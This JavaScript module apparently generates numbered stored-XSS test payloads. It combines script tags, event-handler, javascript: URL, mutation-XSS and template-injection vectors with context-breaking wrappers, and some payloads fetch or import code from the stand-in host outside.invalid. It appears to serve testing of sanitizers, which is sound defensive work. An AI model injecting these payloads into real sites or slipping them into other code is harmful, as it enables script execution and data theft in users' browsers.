// What somebody could store in the hope that a page runs it: many ways in, each in many wrappings, all made here. Each would
// set `ran`, and most would ask an address outside for something.

const ACTS = [
  (n) => `window.ran=${n}`,
  (n) => `fetch('http://outside.invalid/${n}')`,
  (n) => `top['ran']=${n};alert(${n})`,
  (n) => `import('http://outside.invalid/${n}.js').finally(()=>{ran=${n}})`,
];

const VECTORS = [
  (act) => `<script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<body onload="${act}">`,
  (act) => `<iframe srcdoc="<script>parent.${act.replaceAll('"', "'")}</script>"></iframe>`,
  (act) => `<a href="javascript:${act}" autofocus onfocus="${act}">x</a>`,
  (act) => `<details open ontoggle="${act}">x</details>`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<style>@import 'http://outside.invalid/s.css';*{animation:x}</style><b onanimationstart="${act}">`,
  (act) => `<link rel=stylesheet href="http://outside.invalid/l.css"><meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${act}">`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `javascript:${act}`,
  (act) => `{{constructor.constructor("${act}")()}}`,
  (act) => `\${${act}}`,
];

const WRAPPINGS = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'-->${text}<!--`,
  (text) => `</textarea></title></script>${text}`,
  (text) => `\u202e${text}`,
];

const ALL = ACTS.flatMap((act) => WRAPPINGS.flatMap((wrap) => VECTORS.map((vector) => (n) => `mark${n}x ${wrap(vector(act(n)))}`)));

// One of them, marked with its number, in an order that mixes the kinds.
export const payload = (number) => ALL[(number * 7) % ALL.length](number);
